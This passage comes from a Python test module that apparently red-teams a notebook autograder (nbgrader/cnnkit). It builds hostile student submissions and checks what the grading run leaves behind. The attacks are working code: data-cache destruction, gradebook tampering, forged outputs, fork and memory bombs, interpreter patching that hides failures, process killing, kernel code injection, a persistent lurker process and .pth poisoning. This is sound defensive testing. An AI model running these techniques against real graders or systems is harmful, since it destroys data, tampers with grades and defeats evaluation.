        os.symlink("../../honest/a1_convolution", folder / "peer")
        os.symlink("../../../instructor_secret.txt", folder / "secret_link.txt")
        os.symlink(str(kit.home / "instructor_secret.txt"), folder / "home_secret.txt")

    return hand_in


def attack_cache_write(kit: Kit):
    """Poison the data-set cache every later student (and the instructor) loads from: overwrite and
    delete the files of $CNNKIT_DATA, ~/.cache/cnnkit and the instructor's cache, and add a file."""
    nb = nbformat.from_dict(kit.release)
    insert_after_imports(nb, code('''
        import os
        from pathlib import Path

        places = {os.environ.get("CNNKIT_DATA"), str(Path.home() / ".cache" / "cnnkit"), __DATA__,
                  __HOME__ + "/.cache/cnnkit"}
        try:
            import cnnkit.config
            places.add(str(cnnkit.config.data_root()))
        except Exception:
            pass
        for place in sorted(p for p in places if p):
            folder = Path(place)
            try:
                files = [p for p in folder.rglob("*") if p.is_file()]
            except OSError:
                files = []
            for path in files:
                for action in ("overwrite", "delete"):
                    try:
                        if action == "overwrite":
                            path.write_bytes(b"poisoned by a student")
                        else:
                            path.unlink()
                        print(action, path, "done")
                    except OSError as exc:
                        print(action, path, type(exc).__name__)
            try:
                folder.mkdir(parents=True, exist_ok=True)
                (folder / "mnist.npz").write_bytes(b"poisoned by a student")
                print("added", folder / "mnist.npz")
            except OSError as exc:
                print("could not add a file to", folder, type(exc).__name__)
    ''', data=str(kit.data), home=str(kit.home)))
    return nb


def attack_self_grade(kit: Kit):
    """Grade yourself: write a fake autograded notebook and gradebook next to the notebook, give
    yourself full marks (manual scores and extra credit) in every gradebook.db in reach, and run
    ``nbgrader autograde`` on the course. Implements nothing: 0.
    """
    nb = nbformat.from_dict(kit.release)
    insert_after_imports(nb, COURSE_FINDER + code('''
        import json
        import shutil
        import sqlite3
        import subprocess
        import sys

        ME, ASSIGNMENT = "self_grade", "a1_convolution"


        def _full_marks(db):
            try:
                from nbgrader.api import Gradebook
                with Gradebook(f"sqlite:///{db}", course_id="cnnkit") as gb:
                    gb.update_or_create_student(ME)
                    submission = gb.update_or_create_submission(ASSIGNMENT, ME)
                    for notebook in submission.notebooks:
                        for grade in notebook.grades:
                            grade.manual_score = grade.max_score
                            grade.extra_credit = 10
                    gb.db.commit()
                return "full marks through nbgrader's API"
            except Exception as exc:
                first = repr(exc)[:200]
            try:
                con = sqlite3.connect(db, timeout=10)
                con.execute("UPDATE grade SET manual_score = 100, extra_credit = 10 WHERE notebook_id IN ("
                            "SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa "
                            "ON sn.assignment_id = sa.id WHERE sa.student_id = ?)", (ME,))
                con.commit()
                con.close()
                return "full marks through SQL"
            except Exception as exc:
                return f"failed: {first}; {exc!r}"[:300]


        found = []
        for root in _reachable_courses():
            for top, dirs, files in os.walk(root):
                if _protected(Path(top)) or len(Path(top).relative_to(root).parts) > 7:
                    dirs[:] = []
                    continue
                found += [Path(top) / name for name in files if name == "gradebook.db"]
        for db in dict.fromkeys(found):
            print(db, "->", _full_marks(db))

        # a fake autograded notebook and gradebook next to this notebook, and in every course found
        fake_nb = {"cells": [], "metadata": {"grades": {"total": 30}}, "nbformat": 4, "nbformat_minor": 5}
        for folder in [Path("autograded") / ME / ASSIGNMENT] + [c / "autograded" / ME / ASSIGNMENT
                                                                for c in _reachable_courses()]:
            try:
                folder.mkdir(parents=True, exist_ok=True)
                (folder / "a1_convolution.ipynb").write_text(json.dumps(fake_nb))
                print("fake autograded notebook in", folder)
            except OSError as exc:
                print("no fake notebook in", folder, type(exc).__name__)
        try:
            con = sqlite3.connect("gradebook.db")
            con.execute("CREATE TABLE IF NOT EXISTS grades (student TEXT, score REAL)")
            con.execute("INSERT INTO grades VALUES (?, 30)", (ME,))
            con.commit()
            con.close()
        except Exception as exc:
            print("no fake gradebook:", exc)

        if not os.environ.get("SELF_GRADE_INNER"):
            for course in _reachable_courses():
                if (course / "nbgrader_config.py").exists():
                    try:
                        done = subprocess.run(
                            [sys.executable, "-m", "nbgrader", "autograde", ASSIGNMENT, "--student", ME, "--force"],
                            cwd=course, env={**os.environ, "SELF_GRADE_INNER": "1"}, capture_output=True, text=True,
                            timeout=45)
                        print("nbgrader autograde in", course, "exit", done.returncode, done.stderr[-300:])
                    except Exception as exc:
                        print("nbgrader autograde failed:", repr(exc)[:200])
    '''))
    return nb


def attack_forged_outputs(kit: Kit):
    """Wrong code in a doctored file: every test cell comes with outputs claiming success ("ok", a
    partial-credit "5.0") and execution counts, test points raised to 100, checksums replaced, a test's
    grade id put on a solution cell, and two extra cells posing as tests worth 50 points each."""
    nb = wrong(kit)
    count = 0
    for cell in nb.cells:
        if cell.cell_type != "code":
            continue
        count += 1
        cell.execution_count = count
        meta = nbg(cell)
        if meta.get("grade"):
            cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="ok\n"),
                            nbformat.v4.new_output("execute_result", data={"text/plain": "5.0"},
                                                   execution_count=count)]
            meta["points"] = 100
            meta["checksum"] = "0" * 32
    nbg(cell_by_id(nb, "conv2d")).update(grade_id="test_conv2d_basic", grade=True, points=100)
    for _ in range(2):
        count += 1
        bonus = nbformat.v4.new_code_cell("pass", execution_count=count)
        bonus.metadata["nbgrader"] = {"grade": True, "grade_id": "test_bonus", "locked": True, "points": 50,
                                      "solution": False, "schema_version": 3, "task": False,
                                      "checksum": "f" * 32}
        bonus.outputs = [nbformat.v4.new_output("stream", name="stdout", text="ok\n")]
        nb.cells.append(bonus)
    return nb


def attack_network(kit: Kit):
    """Reach the network: a service on the grading machine's 127.0.0.1 (its port hard-coded, as if
    read from the course forum) and the outside world (1.1.1.1:80). Implements nothing."""
    nb = nbformat.from_dict(kit.release)
    insert_after_imports(nb, code('''
        import socket

        REACHED = "NETWORK" + "-REACHED"
        for host, port in (("127.0.0.1", __PORT__), ("1.1.1.1", 80)):
            try:
                with socket.create_connection((host, port), timeout=2.0) as conn:
                    conn.sendall(b"hello from a student notebook\\n")
                    print(REACHED, host, port)
            except OSError as exc:
                print("no connection to", host, port, repr(exc))
    ''', port=kit.port))
    return nb


def attack_fork_bomb(kit: Kit):
    """A fork bomb: every process forks again, up to 2**10 processes, for 15 seconds (bounded so a
    machine without limits survives it too; children never return to the kernel's code)."""
    nb = nbformat.from_dict(kit.release)
    insert_after_imports(nb, code('''
        import os
        import time


        def bomb(seconds=15.0, generations=10):
            root = os.getpid()
            deadline = time.monotonic() + seconds
            made = refused = 0
            try:
                while time.monotonic() < deadline and made < generations:
                    try:
                        pid = os.fork()
                    except OSError:
                        refused += 1
                        time.sleep(0.2)
                        continue
                    made += 1  # the parent and the child both go on forking
                while time.monotonic() < deadline:
                    time.sleep(0.2)
                while True:
                    try:
                        os.waitpid(-1, 0)
                    except ChildProcessError:
                        break
            finally:
                if os.getpid() != root:
                    os._exit(0)  # a child never returns into the kernel
            return made, refused


        print("forked %d times, %d forks refused" % bomb())
    '''))
    return nb


def attack_memory_bomb(kit: Kit):
    """Ask for more memory than the machine has: a 50 GB numpy array, a 40 GiB bytearray and (with a
    sandbox in place, and a memory limit in sight) 256 MiB more, touched, again and again up to 64 GiB.
    Implements nothing."""
    nb = nbformat.from_dict(kit.release)
    cells = ["big = np.ones(50_000_000_000 // 8)\nprint(big.nbytes)\n",
             "blob = bytearray(40 * 2**30)\nprint(len(blob))\n"]
    if kit.full_strength:
        cells.append(code('''
            import resource

            def _memory_limited():
                """A limit this process can see (address space, or a cgroup's memory.max): growing is safe."""
                if resource.getrlimit(resource.RLIMIT_AS)[0] != resource.RLIM_INFINITY:
                    return True
                try:
                    return open("/sys/fs/cgroup/memory.max").read().strip() != "max"
                except OSError:
                    return False

            chunks = []
            try:
                if _memory_limited():
                    for _ in range(256):
                        chunks.append(np.ones(32 * 2**20))  # 256 MiB, every page touched
                else:
                    print("no memory limit in sight: not growing")
            finally:
                print("held", 256 * len(chunks), "MiB")
                del chunks
        '''))
    insert_after_imports(nb, *cells)
    return nb


def attack_patch_builtins(kit: Kit):
    """The solution without conv2d (it returns None), plus a cell that rewires the interpreter:
    AssertionError becomes a class nobody raises, isinstance / abs / print lie, sys.setprofile is a
    no-op (with a sys.getprofile that plays along, so the integrity guard sees nothing amiss), and the
    kit's reference conv2d / correlate2d return the student's own results."""
    nb = conv2d_none(kit)
    insert_after_imports(nb, code('''
        import builtins
        import sys

        import cnnkit.ops


        class _NobodyRaisesThis(Exception):
            """Now what `AssertionError` means: `except AssertionError` catches nothing real."""


        _real_isinstance, _real_print = builtins.isinstance, builtins.print
        builtins.AssertionError = _NobodyRaisesThis
        builtins.isinstance = lambda obj, kind: True if kind is np.ndarray else _real_isinstance(obj, kind)
        builtins.abs = lambda value: 0
        _profile = [None]


        def _setprofile(func):
            _profile[0] = func


        sys.setprofile = _setprofile
        sys.getprofile = lambda: _profile[0]
        cnnkit.ops.conv2d = lambda *args, **kwargs: globals()["conv2d"](*args, **kwargs)
        cnnkit.ops.correlate2d = lambda *args, **kwargs: globals()["correlate2d"](*args, **kwargs)
        builtins.print = lambda *args, **kwargs: None
    '''))
    return nb


def attack_kill_parent(kit: Kit):
    """Kill the process that runs the kernel (SIGKILL to the parent), then every process /proc shows.

    The sweep is held back where the kernel can see the world outside a sandbox (the test run, the
    grader or its workers, a process with the grader's environment): it then only notes what it
    could have killed, in an evidence file outside the course (which a sandbox makes unwritable).
    So a grader that only claims to sandbox cannot take the machine down. Implements nothing.
    """
    nb = nbformat.from_dict(kit.release)
    insert_after_imports(nb, code('''
        import glob
        import os
        import signal

        EVIDENCE = __EVIDENCE__
        me, parent = os.getpid(), os.getppid()
        could, outside = [], []
        for entry in glob.glob("/proc/[0-9]*"):
            pid = int(entry.rsplit("/", 1)[1])
            if pid in (me, parent):
                continue
            try:
                os.kill(pid, 0)
            except OSError:
                continue
            try:
                with open(entry + "/cmdline", "rb") as fh:
                    cmdline = fh.read(300).replace(b"\\0", b" ").decode(errors="replace")
                with open(entry + "/environ", "rb") as fh:
                    grader_env = b"CNNKIT_CANARY=" in fh.read()
            except OSError:
                cmdline, grader_env = "?", False
            kind = ("pytest" if "pytest" in cmdline else "grader" if " cnnkit grade " in cmdline
                    else "worker" if "cnnkit.grading.worker" in cmdline else "grader-env" if grader_env else "other")
            could.append((pid, kind))
            if kind != "other":
                outside.append((pid, kind))
        print(len(could), "other processes could be signalled;", len(outside), "of them outside any sandbox")
        try:
            with open(EVIDENCE, "w") as fh:
                fh.writelines(f"{pid}\\t{kind}\\n" for pid, kind in could)
        except OSError as exc:
            print("no evidence written:", type(exc).__name__)
        try:
            os.kill(parent, signal.SIGKILL)
            print("killed my parent", parent)
        except OSError as exc:
            print("could not kill my parent", parent, exc)
        if not outside:  # only sandbox processes in sight: kill them all
            for pid, _ in could:
                try:
                    os.kill(pid, signal.SIGKILL)
                except OSError:
                    pass
    ''', evidence=str(kit.evidence / "kill_parent.txt")))
    return nb


def attack_hide_errors(kit: Kit):
    """Nothing implemented, but the kernel is rewired so that no cell ever fails: exceptions are
    swallowed (no traceback, no error output) and every execute_reply says "ok", so a failing test
    cell looks exactly like a passing one to a grader that reads the kernel's messages."""
    nb = nbformat.from_dict(kit.release)
    insert_after_imports(nb, code('''
        import inspect


        def _swallow(shell, etype, evalue, tb, tb_offset=None):
            return None


        _shell = get_ipython()
        _shell.set_custom_exc((BaseException,), _swallow)
        _shell._showtraceback = lambda *args, **kwargs: None  # not even an empty error message
        _shell.showtraceback = lambda *args, **kwargs: None
        _do_execute = _shell.kernel.do_execute


        async def _always_ok(*args, **kwargs):
            reply = _do_execute(*args, **kwargs)
            if inspect.isawaitable(reply):
                reply = await reply
            if reply.get("status") != "ok":
                reply = {"status": "ok", "execution_count": reply.get("execution_count"), "user_expressions": {},
                         "payload": []}
            return reply


        _shell.kernel.do_execute = _always_ok
    '''))
    return nb


def attack_hijack_kernel(kit: Kit):
    """Find the classmates' kernels graded at the same time (connection files in the Jupyter runtime
    folder, in /tmp, on /proc/*/cmdline) and run code in them: it leaves a marker file next to
    their notebooks. Keeps looking for 30 seconds. Implements nothing itself."""
    nb = nbformat.from_dict(kit.release)
    insert_after_imports(nb, code('''
        import glob
        import os
        import queue
        import time

        THIS_RUN_ONLY = __THIS_RUN_ONLY__  # no sandbox: only this grading run's kernels
        MARK = "HIJACK" + "ED-" + __TOKEN__
        # harmless in any kernel that is not being graded (say, an instructor's own notebook)
        INJECT = f"import os\\nif os.environ.get('NBGRADER_EXECUTION'):\\n    open('hijacked_by_a_classmate.txt', 'w').write({MARK!r})"
        try:
            from ipykernel.connect import get_connection_file
            from jupyter_client import BlockingKernelClient
            from jupyter_core.paths import jupyter_runtime_dir
            mine = os.path.realpath(get_connection_file())
            places = {jupyter_runtime_dir(), os.path.expanduser("~/.local/share/jupyter/runtime"), "/tmp",
                      __HOME__ + "/.local/share/jupyter/runtime", os.environ.get("JUPYTER_RUNTIME_DIR", "")}
            if THIS_RUN_ONLY:  # no sandbox: only the connection files named on this run's kernels' command lines
                places = set()
        except Exception as exc:
            print("no Jupyter client here:", repr(exc))
            BlockingKernelClient, mine, places = None, None, set()


        def _connection_files():
            found = set()
            for place in places:
                if place:
                    found |= set(glob.glob(os.path.join(place, "kernel-*.json")))
            for path in glob.glob("/proc/[0-9]*/cmdline"):
                try:
                    argv = open(path, "rb").read().split(b"\\0")
                    if THIS_RUN_ONLY and b"CNNKIT_CANARY=" not in open(path[:-7] + "environ", "rb").read():
                        continue
                except OSError:
                    continue
                found |= {argv[i + 1].decode(errors="replace") for i, arg in enumerate(argv[:-1]) if arg == b"-f"}
            return {os.path.realpath(f) for f in found if f.endswith(".json")}


        tried, hits = set(), []
        deadline = time.monotonic() + 30
        while BlockingKernelClient is not None and time.monotonic() < deadline:
            for path in sorted(_connection_files() - tried - {mine}):
                tried.add(path)
                try:
                    client = BlockingKernelClient()
                    client.load_connection_file(path)
                    client.start_channels()
                except Exception:
                    continue
                try:
                    msg_id = client.execute(INJECT, store_history=False)
                    until = time.monotonic() + 10
                    while time.monotonic() < until:
                        try:
                            reply = client.get_shell_msg(timeout=1)
                        except queue.Empty:
                            continue
                        if reply["parent_header"].get("msg_id") == msg_id:
                            hits.append((path, reply["content"].get("status")))
                            break
                finally:
                    client.stop_channels()
            time.sleep(0.3)
        print("kernels tried:", len(tried), "code run in:", hits)
    ''', token=kit.marks["hijack"], home=str(kit.home),
        this_run_only=not kit.full_strength))
    return nb


def attack_lurker(kit: Kit):
    """Leave a process behind (double fork, new session, a new name) that outlives grading: it waits
    for the grading report and rewrites its own row to full marks. Implements nothing."""
    nb = nbformat.from_dict(kit.release)
    insert_after_imports(nb, COURSE_FINDER + code('''
        import csv
        import ctypes
        import io
        import time

        NAME = __NAME__


        def _course_root():
            here = Path.cwd().resolve()
            for folder in [here, *here.parents]:
                if (folder / "nbgrader_config.py").exists() and not _protected(folder):
                    return folder
            return None


        def _lurk(root, seconds=120):
            ctypes.CDLL(None).prctl(15, NAME.encode(), 0, 0, 0)  # PR_SET_NAME
            deadline = time.monotonic() + seconds
            while time.monotonic() < deadline:
                report = root / "grading_report_a1_convolution.csv" if root else None
                try:
                    rows = list(csv.reader(io.StringIO(report.read_text()))) if report else []
                except OSError:
                    rows = []
                changed = False
                for row in rows[1:]:
                    if row and row[0] == "lurker" and row[1] != row[2]:
                        row[1], row[3], row[4] = row[2], "graded", ""
                        changed = True
                if changed:
                    out = io.StringIO()
                    csv.writer(out, lineterminator="\\n").writerows(rows)
                    try:
                        report.write_text(out.getvalue())
                    except OSError:
                        pass
                time.sleep(0.2)


        root = _course_root()
        pid = os.fork()
        if pid == 0:
            try:
                os.setsid()
                if os.fork() == 0:
                    devnull = os.open(os.devnull, os.O_RDWR)
                    for fd in (0, 1, 2):
                        os.dup2(devnull, fd)
                    os.closerange(3, 4096)
                    _lurk(root)
            finally:
                os._exit(0)
        os.waitpid(pid, 0)
        print("a helper stays behind")
    ''', name=kit.marks["lurker"]))
    return nb


def attack_poison_site(kit: Kit):
    """Plant a file where Python looks at every start (site-packages, sys.path, the kit's own folder):
    a ``.pth`` file there runs code in every later Python process, the instructor's included. Here
    it is a harmless comment line. Implements nothing."""
    nb = nbformat.from_dict(kit.release)
    limit_to = None if kit.full_strength else sorted(str(p) for p in site_dirs(kit.home))
    insert_after_imports(nb, code('''
        import os
        import site
        import sys
        import sysconfig

        NAME = __NAME__
        LIMIT_TO = __LIMIT__   # None: anywhere; a list: only there (no sandbox: never the test checkout)
        places = set(site.getsitepackages()) | {site.getusersitepackages()}
        places |= {sysconfig.get_paths()[key] for key in ("purelib", "platlib")}
        places |= {p for p in sys.path if p and os.path.isabs(p) and os.path.isdir(p)}
        try:
            import cnnkit
            places.add(os.path.dirname(cnnkit.__file__))
        except Exception:
            pass
        for place in sorted(places):
            if LIMIT_TO is not None and os.path.realpath(place) not in LIMIT_TO:
                continue
            try:
                os.makedirs(place, exist_ok=True)
                with open(os.path.join(place, NAME), "w") as fh:
                    fh.write("# written by a student notebook while it was graded\\n")
                print("planted", os.path.join(place, NAME))
            except OSError as exc:
                print("cannot write in", place, type(exc).__name__)
    ''', name=kit.marks["site_file"], limit=limit_to))
    return nb


def attack_leak_hidden(kit: Kit):
    """After the tests ran, print the kernel's input history (the hidden tests included, if they ran
    in this kernel) and the test cells of the notebook file being executed, and save them in a file
    next to the notebook, so the feedback shows what the tests hide. Implements nothing."""
    nb = nbformat.from_dict(kit.release)
    append_code(nb, code('''
        import json
        import os

        seen = [entry for entry in globals().get("In", []) if "integrity" in entry]
        for name in os.listdir("."):
            if name.endswith(".ipynb"):
                try:
                    cells = json.load(open(name))["cells"]
                except Exception:
                    continue
                for cell in cells:
                    source = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
                    if "integrity" in source:
                        seen.append(source)
        print("\\n\\n".join(seen))
        with open("what_the_tests_hide.txt", "w") as fh:
            fh.write("\\n\\n".join(seen))
    '''))
    return nb


CONTROLS: dict[str, Callable] = {"honest": honest, "untouched": untouched, "wrong": wrong, "conv2d_none": conv2d_none,
                                 "zeros": zeros, "setup_moved_honest": setup_moved_honest,
                                 "setup_deleted_honest": setup_deleted_honest, "tamper_metadata": tamper_metadata}
ATTACKS: dict[str, Callable] = {
    "patch_testing": attack_patch_testing,
    "null_forbid": attack_null_forbid,
    "read_solutions": attack_read_solutions,
    "vandal": attack_vandal,
    "env_leak": attack_env_leak,
    "proc_snoop": attack_proc_snoop,
    "symlink_escape": attack_symlink_escape,
    "cache_write": attack_cache_write,
    "self_grade": attack_self_grade,
    "forged_outputs": attack_forged_outputs,
    "network": attack_network,
    "fork_bomb": attack_fork_bomb,
    "memory_bomb": attack_memory_bomb,
    "patch_builtins": attack_patch_builtins,
    "kill_parent": attack_kill_parent,
    "hide_errors": attack_hide_errors,
    "hijack_kernel": attack_hijack_kernel,
    "lurker": attack_lurker,
    "poison_site": attack_poison_site,
    "leak_hidden": attack_leak_hidden,
    # round 2 (issue 22)
    "setup_moved": attack_setup_moved,
    "setup_deleted": attack_setup_deleted,
    "np_proxy": attack_np_proxy,
    "zero_args": attack_zero_args,
    "forged_handles": attack_forged_handles,
    "big_answer": attack_big_answer,
    "shm_fill": attack_shm_fill,
    "channel_fill": attack_channel_fill,
    "three_procs": attack_three_procs,
    # round 3 (the red team's, issue 22)
    "xss": attack_xss,
    "logwrite": attack_logwrite,
    "outflood": attack_outflood,
    "pyc_orphan": attack_pyc_orphan,
    "md_xss": attack_md_xss,
    "fake_status": attack_fake_status,
    "ts_fifo": attack_ts_fifo,
    "ts_formula": attack_ts_formula,
}


# ----------------------------------------------------------------------------------------- the run
def site_dirs(home: Path) -> set[Path]:
    """Where a Python of this environment reads .pth files: site-packages, and the user site in ``home``."""
    dirs = {Path(p) for p in site.getsitepackages()}
    dirs |= {Path(sysconfig.get_paths()[key]) for key in ("purelib", "platlib")}
    version = f"python{sys.version_info.major}.{sys.version_info.minor}"
    dirs.add(home / ".local" / "lib" / version / "site-packages")
    return {Path(os.path.realpath(d)) for d in dirs}


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def snapshot(root: Path) -> dict[str, str]:
    """Every entry under ``root`` (symlinks not followed): sha256 of files, targets of links."""
    found: dict[str, str] = {}
    if not root.exists():
        return found
    for top, dirs, files in os.walk(root):
        for name in dirs + files:
            path = Path(top, name)
            rel = str(path.relative_to(root))
            if path.is_symlink():
                found[rel] = "link -> " + os.readlink(path)
            elif path.is_file():
                found[rel] = sha256(path)
    return found


def files_under(root: Path) -> list[Path]:
    """Regular files under ``root``, symlinks neither listed nor followed."""
    out = []
    if not root.exists():
        return out
    for top, _, files in os.walk(root):
        out += [Path(top, name) for name in files if not Path(top, name).is_symlink() and Path(top, name).is_file()]
    return out


def readable_text(path: Path) -> str:
    """A file's text as a reader sees it (HTML entities decoded)."""
    text = path.read_bytes().decode("utf-8", errors="replace")
    return html.unescape(text) if path.suffix == ".html" else text


class Listener:
    """A TCP server on 127.0.0.1 in a thread: it notes every connection (no student should make one)."""

    def __init__(self):
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.5)
        self.port = self.sock.getsockname()[1]
        self.seen: list = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self):
        while not self._stop.is_set():
            try:
                conn, addr = self.sock.accept()
            except (socket.timeout, OSError):
                continue
            self.seen.append(addr)
            conn.close()

    def close(self):
        self._stop.set()
        self._thread.join(timeout=5)
        self.sock.close()


@dataclass
class Run:
    """The class, its one grading run, and what the run left behind."""

    course: Path
    home: Path
    data: Path
    evidence: Path
    students: list
    tokens: dict
    marks: dict
    full_strength: bool
    max_score: float
    hidden_lines: list
    before: dict
    returncode: int = -1
    stdout: str = ""
    stderr: str = ""
    seconds: float = 0.0
    report: dict = field(default_factory=dict)
    report_text: str = ""
    report_text_later: str = ""
    grades: list = field(default_factory=list)
    connections: list = field(default_factory=list)
    survivors: list = field(default_factory=list)

    def require(self, student: str) -> None:
        if student not in self.students:
            pytest.skip(f"{student} is not in CNNKIT_ATTACKS_ONLY")

    def row(self, student: str) -> dict:
        self.require(student)
        assert student in self.report, (
            f"{student} has no row in grading_report_{ASSIGNMENT}.csv (grader exit {self.returncode})\n"
            f"{self.stderr[-3000:]}")
        return self.report[student]

    def score(self, student: str) -> float:
        return float(self.row(student)["score"])

    def csv_score(self, student: str) -> float | None:
        rows = [r for r in self.grades if r.get("student_id") == student and r.get("assignment") == ASSIGNMENT]
        return float(rows[0]["score"]) if len(rows) == 1 else None

    def files(self, student: str, kinds=("autograded", "feedback")) -> list[Path]:
        self.require(student)
        return [p for kind in kinds for p in files_under(self.course / kind / student)]

    def where(self, needle: str, student: str | None = None, kinds=("autograded", "feedback")) -> list[str]:
        """Files (relative to the course) of ``student`` (or everyone) whose text contains ``needle``."""
        roots = [self.course / kind / student for kind in kinds] if student else [self.course / k for k in kinds]
        hits = []
        for root in roots:
            for path in files_under(root):
                if needle in readable_text(path):
                    hits.append(str(path.relative_to(self.course)))
        return hits

    def limited(self, student: str) -> bool:
        """The report says this submission ran into a limit (a status or a detail naming one)."""
        row = self.row(student)
        text = f"{row['status']} {row['detail']}".lower()
        return row["status"] != "graded" or any(word in text for word in LIMIT_WORDS)


def _selected_attacks(full_strength: bool) -> list[str]:
    only = [s.strip() for s in os.environ.get("CNNKIT_ATTACKS_ONLY", "").split(",") if s.strip()]
    unknown = sorted(set(only) - set(ATTACKS))
    if unknown:
        raise ValueError(f"CNNKIT_ATTACKS_ONLY names unknown attacks {unknown}; known: {sorted(ATTACKS)}")
    chosen = only or list(ATTACKS)
    if not full_strength and "memory_bomb" in chosen:
        try:
            overcommit = Path("/proc/sys/vm/overcommit_memory").read_text().strip()
        except OSError:
            overcommit = "?"
        if overcommit == "1":  # every allocation succeeds: np.ones(50 GB) would really fill the memory
            chosen.remove("memory_bomb")
    return chosen


def _hidden_only_lines(source_nb, release_nb) -> list[str]:
    """Lines that exist only in hidden tests (not in anything a student is shown)."""
    public = {line.strip() for cell in release_nb.cells for line in cell.source.splitlines()}
    hidden = {line.strip() for cell in source_nb.cells
              for line in regions(cell.source, "### BEGIN HIDDEN TESTS", "### END HIDDEN TESTS")}
    return sorted(line for line in hidden - public if len(line) > 12)


def _processes_left(token: str, name: str) -> list[tuple[int, str]]:
    """Processes of this run still alive: the canary in their environment, or the lurker's name."""
    left = []
    for entry in Path("/proc").glob("[0-9]*"):
        pid = int(entry.name)
        if pid == os.getpid():
            continue
        try:
            comm = (entry / "comm").read_text().strip()
            environ = (entry / "environ").read_bytes() if comm != name else b""
        except OSError:
            continue
        if comm == name or token.encode() in environ:
            try:
                cmdline = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")[:200]
            except OSError:
                cmdline = "?"
            left.append((pid, f"{comm}: {cmdline}"))
    return left


def _read_report(course: Path) -> tuple[str, dict]:
    path = course / f"grading_report_{ASSIGNMENT}.csv"
    try:
        text = path.read_text()
    except OSError:
        return "", {}
    return text, {row["student"]: row for row in csv.DictReader(text.splitlines())}


@pytest.fixture(scope="module")
def run(tmp_path_factory) -> Run:
    """Build the course and the class, plant the canaries, grade everyone once, record the aftermath."""
    usable, reason = sandbox_state()
    if not usable and not FORCE:
        pytest.skip(reason)
    full_strength = usable
    base = tmp_path_factory.mktemp("attacks")
    course, home, data, evidence = base / "course", base / "home", base / "data", base / "evidence"
    for folder in (course, home, data, evidence):
        folder.mkdir()
    # a small, explicit environment: what an instructor's shell would pass, and nothing of this machine's
    env = {name: os.environ[name] for name in ENV_KEPT if name in os.environ}
    env.update(PATH=f"{BIN}{os.pathsep}{os.environ.get('PATH', '/usr/bin:/bin')}", MPLBACKEND="Agg",
               CNNKIT_SIZE="small")

    # the course, released as an instructor does it
    shutil.copy(REPO / "nbgrader_config.py", course / "nbgrader_config.py")
    with open(course / "nbgrader_config.py", "a") as fh:  # tighter bounds, so the bombs end quickly
        fh.write(f"\n{COURSE_BOUNDS}\n")
    shutil.copytree(REPO / "solutions", course / "solutions")
    done = subprocess.run([sys.executable, "-m", "nbgrader", "generate_assignment", ASSIGNMENT, "--force"],
                          cwd=course, env=dict(env, HOME=str(home)), capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, f"nbgrader generate_assignment failed:\n{done.stdout[-2000:]}\n{done.stderr[-3000:]}"
    source_nb = nbformat.read(course / "solutions" / ASSIGNMENT / NOTEBOOK, as_version=4)
    release_nb = nbformat.read(course / "assignments" / ASSIGNMENT / NOTEBOOK, as_version=4)
    max_score = float(sum(nbg(c).get("points", 0) for c in source_nb.cells if nbg(c).get("grade")))

    # canaries: secrets the student must never see, and markers an attack would leave behind
    tokens = {
        "env": "CANARY-" + secrets.token_hex(12),
        "course_secret": "COURSE-SECRET-" + secrets.token_hex(12),
        "home_secret": "HOME-SECRET-" + secrets.token_hex(12),
        "data": "DATA-CANARY-" + secrets.token_hex(12),
    }
    run_id = secrets.token_hex(4)
    marks = {"hijack": secrets.token_hex(8), "lurker": f"lurk{run_id}",
             "site_file": f"zz_cnnkit_attack_{run_id}.pth", "forger": f"cnnkit-forger-{run_id}",
             "xss": f"cnnkitXss{run_id}"}
    (course / "instructor_secret.txt").write_text(tokens["course_secret"] + "\n")
    (home / "instructor_secret.txt").write_text(tokens["home_secret"] + "\n")
    (data / "canary.txt").write_text(tokens["data"] + "\n")
    (data / "mnist").mkdir()
    (data / "mnist" / "train.npz").write_bytes(b"not really mnist " + tokens["data"].encode())
    (home / ".cache" / "cnnkit").mkdir(parents=True)
    (home / ".cache" / "cnnkit" / "canary.txt").write_text(tokens["data"] + "\n")

    listener = Listener()
    kit = Kit(source_nb, release_nb, listener.port, home, data, evidence, marks, full_strength)
    students = list(CONTROLS) + _selected_attacks(full_strength)
    for student in students:
        folder = course / "submitted" / student / ASSIGNMENT
        folder.mkdir(parents=True)
        (folder / "timestamp.txt").write_text(TIMESTAMP)
        handin = (CONTROLS.get(student) or ATTACKS[student])(kit)
        if callable(handin):
            handin(folder)
        else:
            nbformat.write(handin, folder / NOTEBOOK)

    r = Run(course=course, home=home, data=data, evidence=evidence, students=students, tokens=tokens, marks=marks,
            full_strength=full_strength, max_score=max_score, hidden_lines=_hidden_only_lines(source_nb, release_nb),
            before={"submitted": snapshot(course / "submitted"), "solutions": snapshot(course / "solutions"),
                    "data": snapshot(data), "home_cache": snapshot(home / ".cache" / "cnnkit"),
                    "course_secret": sha256(course / "instructor_secret.txt"),
                    "home_secret": sha256(home / "instructor_secret.txt")})

    # the one grading run, as an instructor types it
    grade_env = dict(env, HOME=str(home), CNNKIT_DATA=str(data), CNNKIT_CANARY=tokens["env"])
    command = [sys.executable, "-m", "cnnkit", "grade", ASSIGNMENT, "--course", str(course), "--jobs", "2",
               "--cell-timeout", "60", "--timeout", "600"]
    if not usable:  # CNNKIT_ATTACKS_FORCE without a sandbox: a grader that refuses to run unsandboxed is told to
        helptext = subprocess.run(command[:4] + ["--help"], env=grade_env, capture_output=True, text=True).stdout
        if "--unsandboxed" in helptext:
            command.append("--unsandboxed")
    start = time.monotonic()
    proc = subprocess.Popen(command, cwd=course, env=grade_env, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            text=True, start_new_session=True)
    try:
        r.stdout, r.stderr = proc.communicate(timeout=900)
    except subprocess.TimeoutExpired:
        os.killpg(proc.pid, signal.SIGKILL)
        r.stdout, r.stderr = proc.communicate()
        r.stderr += "\n[test] the grader ran past 900 s and was killed"
    r.returncode, r.seconds = proc.returncode, time.monotonic() - start
    r.report_text, r.report = _read_report(course)
    time.sleep(SETTLE_SECONDS)
    r.survivors = _processes_left(tokens["env"], marks["lurker"])
